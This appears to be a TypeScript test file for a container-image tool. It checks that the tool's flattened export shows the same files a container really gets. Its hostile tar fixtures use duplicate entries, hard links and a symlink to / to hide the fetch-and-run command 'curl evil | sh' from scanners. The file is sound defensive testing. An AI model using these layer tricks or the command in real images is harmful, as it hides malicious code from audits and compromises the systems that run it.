/**
 * Security cases of the flattened view (src/mutate/flatten.ts): `ocikit export` (and anything
 * that audits an image through it) must show the files a container would really get, or a
 * hostile layer can show a scanner one file and run another.
 */
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import tar from 'tar-stream';
import { unpackBundle } from '../../src/bundle/index.ts';
import { openImage } from '../../src/image/index.ts';
import { exportFilesystem } from '../../src/mutate/index.ts';
import { layoutSource } from '../../src/transports/layout/index.ts';
import { hostileTar } from '../helpers/hostile-tar.ts';
import { scratch } from '../helpers/tmp.ts';
import { writeImageLayout } from './fixtures.ts';

async function exportedFiles(layout: string): Promise<Map<string, string>> {
  const image = await openImage(layoutSource(`oci:${layout}`), { platform: 'linux/amd64' });
  const extract = tar.extract();
  exportFilesystem(image).pipe(extract as unknown as NodeJS.WritableStream);
  const files = new Map<string, string>();
  for await (const entry of extract) {
    const chunks: Buffer[] = [];
    for await (const chunk of entry) chunks.push(chunk as Buffer);
    if (entry.header.type === 'file') files.set(entry.header.name, Buffer.concat(chunks).toString('utf8'));
    // A hard link shows its target's content (hard links always follow their target in the export).
    if (entry.header.type === 'link')
      files.set(entry.header.name, files.get(entry.header.linkname ?? '') ?? '');
  }
  return files;
}

test('export shows the same content as unpack when a layer repeats a path (the last entry wins)', async (t) => {
  const dir = await scratch(t, 'ocikit-sec-flatten-');
  const layout = join(dir, 'layout');
  const layer = await hostileTar([
    { name: 'bin/', type: 'directory' },
    { name: 'bin/tool', content: 'echo benign\n', mode: 0o755 },
    { name: 'bin/tool', content: 'curl evil | sh\n', mode: 0o755 },
  ]);
  await writeImageLayout(layout, [layer]);

  const bundle = join(dir, 'bundle');
  const image = await openImage(layoutSource(`oci:${layout}`), { platform: 'linux/amd64' });
  await unpackBundle(image, bundle);
  const runs = await readFile(join(bundle, 'rootfs', 'bin', 'tool'), 'utf8');

  const shown = (await exportedFiles(layout)).get('bin/tool');
  assert.equal(
    shown,
    runs,
    `export shows ${JSON.stringify(shown)} but the container runs ${JSON.stringify(runs)}`,
  );
});

test('export shows the content a hard link really keeps when an upper layer replaces its target', async (t) => {
  const dir = await scratch(t, 'ocikit-sec-flatten-');
  const layout = join(dir, 'layout');
  // Layer 1: payload at a, and b hard-linked to it. Layer 2 replaces a with something harmless.
  // Replacing a unlinks the old inode from a only: in the container b still holds the payload.
  const lower = await hostileTar([
    { name: 'a', content: 'curl evil | sh\n', mode: 0o755 },
    { name: 'b', type: 'link', linkname: 'a' },
  ]);
  const upper = await hostileTar([{ name: 'a', content: 'echo benign\n', mode: 0o755 }]);
  await writeImageLayout(layout, [lower, upper]);

  const bundle = join(dir, 'bundle');
  const image = await openImage(layoutSource(`oci:${layout}`), { platform: 'linux/amd64' });
  await unpackBundle(image, bundle);
  const runs = await readFile(join(bundle, 'rootfs', 'b'), 'utf8');

  const shown = (await exportedFiles(layout)).get('b');
  assert.equal(
    shown,
    runs,
    `export shows b as ${JSON.stringify(shown)} but the container has ${JSON.stringify(runs)}`,
  );
});

test('export shows what a write through a symlinked parent directory really replaced', async (t) => {
  const dir = await scratch(t, 'ocikit-sec-flatten-');
  const layout = join(dir, 'layout');
  // Apply resolves x -> / inside the root, so x/bin/tool overwrites bin/tool; a lexical flatten
  // hides x/bin/tool (its parent is a non-directory) and keeps showing the old bin/tool.
  const lower = await hostileTar([
    { name: 'bin/', type: 'directory' },
    { name: 'bin/tool', content: 'echo benign\n', mode: 0o755 },
  ]);
  const upper = await hostileTar([
    { name: 'x', type: 'symlink', linkname: '/' },
    { name: 'x/bin/tool', content: 'curl evil | sh\n', mode: 0o755 },
  ]);
  await writeImageLayout(layout, [lower, upper]);

  const bundle = join(dir, 'bundle');
  const image = await openImage(layoutSource(`oci:${layout}`), { platform: 'linux/amd64' });
  await unpackBundle(image, bundle);
  const runs = await readFile(join(bundle, 'rootfs', 'bin', 'tool'), 'utf8');

  const shown = (await exportedFiles(layout)).get('bin/tool');
  assert.equal(
    shown,
    runs,
    `export shows bin/tool as ${JSON.stringify(shown)} but the container has ${JSON.stringify(runs)}`,
  );
});
